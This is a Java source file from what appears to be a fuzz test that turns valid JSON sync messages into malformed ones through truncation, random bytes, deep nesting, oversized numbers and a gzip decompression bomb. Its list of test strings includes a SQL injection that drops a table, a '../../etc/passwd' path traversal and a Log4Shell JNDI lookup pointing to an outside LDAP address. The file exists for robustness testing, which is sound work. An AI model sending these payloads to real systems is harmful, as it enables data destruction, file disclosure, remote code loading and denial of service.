package org.morango.it.fuzz;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.zip.GZIPInputStream;
import java.util.zip.GZIPOutputStream;
import org.jspecify.annotations.Nullable;
import tools.jackson.core.JacksonException;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/** Turns valid messages into invalid ones. */
final class Mutations {
    private static final JsonMapper MAPPER = new JsonMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "%",
            "_",
            "\\",
            "'",
            "\"; drop table morango_store; --",
            "../../etc/passwd",
            "\u0000",
            "\ud800",
            "null",
            "NaN",
            "1e400",
            "00000000000000000000000000000000",
            "ffffffffffffffffffffffffffffffff",
            "${jndi:ldap://192.0.2.1/a}",
            "{}",
            "[]",
            "a".repeat(100_000),
            "é".repeat(10_000),
            "a\nb\n".repeat(1_000));

    private static final int MAX_KNOWN = 2_000;
    private static final int MAX_KNOWN_LENGTH = 2_000;

    private final Random random;
    /** Texts that others have sent: ids of their sessions, nonces, partitions, signatures. */
    private final List<String> known;

    private final RecordLies lies;

    /** @param known the texts that are known already; new ones are added */
    Mutations(Random random, List<String> known, RecordLies lies) {
        this.random = random;
        this.known = known;
        this.lies = lies;
    }

    /** Remembers the texts of a body. */
    void learn(byte[] body) {
        try {
            learn(MAPPER.readTree(body));
        } catch (JacksonException e) {
            // There is nothing to learn.
        }
    }

    private void learn(JsonNode node) {
        if (node.isString() && node.stringValue().length() <= MAX_KNOWN_LENGTH) {
            if (known.size() < MAX_KNOWN) {
                known.add(node.stringValue());
            } else {
                known.set(random.nextInt(MAX_KNOWN), node.stringValue());
            }
        }
        node.forEach(this::learn);
    }

    /** Returns a body with an error in it. */
    byte[] body(byte[] body, boolean gzipped) {
        byte[] plain = gzipped ? unpacked(body) : body;
        byte[] mutated = random.nextInt(5) == 0 ? bytes(plain) : json(plain);
        if (gzipped && random.nextInt(10) == 0) {
            return random.nextBoolean() ? bomb() : bytes(body);
        }
        return gzipped ? packed(mutated) : mutated;
    }

    /** Returns a body with a lie in a record; the same body if it has no records. */
    byte[] lie(byte[] body, boolean gzipped) {
        try {
            JsonNode root = MAPPER.readTree(gzipped ? unpacked(body) : body);
            if (!lies.tell(root)) {
                return body;
            }
            byte[] lying = MAPPER.writeValueAsBytes(root);
            return gzipped ? packed(lying) : lying;
        } catch (JacksonException e) {
            return body;
        }
    }

    private byte[] bytes(byte[] body) {
        switch (random.nextInt(4)) {
            case 0:
                return Arrays.copyOf(body, body.length == 0 ? 0 : random.nextInt(body.length));
            case 1:
                return new byte[0];
            case 2:
                byte[] noise = new byte[random.nextInt(2_000)];
                random.nextBytes(noise);
                return noise;
            default:
                byte[] changed = body.clone();
                for (int i = 0; i < 3 && changed.length > 0; i++) {
                    changed[random.nextInt(changed.length)] = (byte) random.nextInt(256);
                }
                return changed;
        }
    }

    private byte[] json(byte[] body) {
        JsonNode root;
        try {
            root = MAPPER.readTree(body);
        } catch (JacksonException e) {
            return bytes(body);
        }
        if (random.nextBoolean() && lies.tell(root)) {
            return MAPPER.writeValueAsBytes(root);
        }
        if (random.nextInt(20) == 0) {
            return deep().getBytes(StandardCharsets.UTF_8);
        }
        List<JsonNode> containers = new ArrayList<>();
        collect(root, containers);
        if (containers.isEmpty()) {
            return MAPPER.writeValueAsBytes(value());
        }
        for (int i = 1 + random.nextInt(2); i > 0; i--) {
            mutate(containers.get(random.nextInt(containers.size())));
        }
        return MAPPER.writeValueAsBytes(root);
    }

    private static void collect(JsonNode node, List<JsonNode> containers) {
        if (node.isContainer() && containers.size() < 1_000) {
            containers.add(node);
            node.forEach(child -> collect(child, containers));
        }
    }

    private void mutate(JsonNode container) {
        if (container instanceof ObjectNode object) {
            List<String> names = List.copyOf(object.propertyNames());
            String name = names.isEmpty() || random.nextInt(10) == 0 ? text() : names.get(random.nextInt(names.size()));
            String inner = inner(name, object.get(name));
            if (inner != null) {
                object.put(name, inner);
                return;
            }
            switch (random.nextInt(4)) {
                case 0 -> object.remove(name);
                case 1 -> object.set(name, similar(object.get(name)));
                default -> object.set(name, value());
            }
        } else if (container instanceof ArrayNode array) {
            switch (random.nextInt(4)) {
                case 0 -> array.removeAll();
                case 1 -> array.add(value());
                case 2 -> repeat(array);
                default -> {
                    if (!array.isEmpty()) {
                        array.set(random.nextInt(array.size()), value());
                    }
                }
            }
        }
    }

    /** Returns a text whose JSON has an error; null if it is not JSON, or if another mutation was chosen. */
    private @Nullable String inner(String name, @Nullable JsonNode text) {
        if (name.endsWith("_fsic") && random.nextInt(4) == 0) {
            return fsic();
        }
        if (text == null || !text.isString() || random.nextBoolean()) {
            return null;
        }
        try {
            JsonNode parsed = MAPPER.readTree(text.stringValue());
            if (!parsed.isContainer()) {
                return null;
            }
            if (parsed.isArray() && random.nextInt(4) == 0) {
                repeat((ArrayNode) parsed);
            } else {
                List<JsonNode> containers = new ArrayList<>();
                collect(parsed, containers);
                mutate(containers.get(random.nextInt(containers.size())));
            }
            return MAPPER.writeValueAsString(parsed);
        } catch (JacksonException e) {
            return null;
        }
    }

    /** Returns many counters of many instances, some beyond the range of an integer. */
    private String fsic() {
        int instances = 1 + random.nextInt(20_000);
        ObjectNode counters = NODES.objectNode();
        for (int i = 0; i < instances; i++) {
            counters.set(String.format("%032x", i), i % 1_000 == 7 ? number() : NODES.numberNode(i));
        }
        ObjectNode fsic = NODES.objectNode();
        fsic.set("sub", NODES.objectNode().set(text(), counters));
        fsic.set("super", NODES.objectNode().set(random.nextBoolean() ? "" : text(), counters));
        return MAPPER.writeValueAsString(random.nextInt(4) == 0 ? counters : fsic);
    }

    /** Makes a chain of certificates too long or circular. */
    private void repeat(ArrayNode array) {
        for (int i = 1 + random.nextInt(8); i > 0 && array.size() < 10_000; i--) {
            array.deepCopy().forEach(array::add);
        }
    }

    /** Returns a value of the same type. */
    private JsonNode similar(JsonNode value) {
        if (value == null || value.isString()) {
            return NODES.stringNode(value == null || random.nextBoolean() ? text() : value.stringValue() + text());
        }
        return value.isNumber() ? number() : NODES.booleanNode(random.nextBoolean());
    }

    private JsonNode value() {
        return switch (random.nextInt(7)) {
            case 0 -> NODES.nullNode();
            case 1 -> number();
            case 2 -> NODES.booleanNode(random.nextBoolean());
            case 3 -> NODES.arrayNode().add(text());
            case 4 -> NODES.objectNode().put(text(), text());
            default -> NODES.stringNode(text());
        };
    }

    private JsonNode number() {
        return switch (random.nextInt(7)) {
            case 0 -> NODES.numberNode(-1);
            case 1 -> NODES.numberNode(0);
            case 2 -> NODES.numberNode(Long.MAX_VALUE);
            case 3 -> NODES.numberNode(Long.MIN_VALUE);
            case 4 -> NODES.numberNode(Integer.MAX_VALUE);
            case 5 -> NODES.numberNode(new BigInteger("9".repeat(500)));
            default -> NODES.numberNode(1.5e300);
        };
    }

    String text() {
        if (!known.isEmpty() && random.nextInt(3) == 0) {
            return known.get(random.nextInt(known.size()));
        }
        return TEXTS.get(random.nextInt(TEXTS.size()));
    }

    private String deep() {
        int levels = 1 + random.nextInt(100_000);
        return random.nextBoolean() ? "[".repeat(levels) : "{\"a\":".repeat(levels);
    }

    /** Returns few bytes that unpack to many. */
    private static byte[] bomb() {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            byte[] zeros = new byte[1024 * 1024];
            for (int i = 0; i < 300; i++) {
                gzip.write(zeros);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }

    static byte[] packed(byte[] body) {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
            gzip.write(body);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return packed.toByteArray();
    }

    static byte[] unpacked(byte[] body) {
        try (GZIPInputStream in = new GZIPInputStream(new ByteArrayInputStream(body))) {
            return in.readAllBytes();
        } catch (IOException e) {
            return body;
        }
    }
}
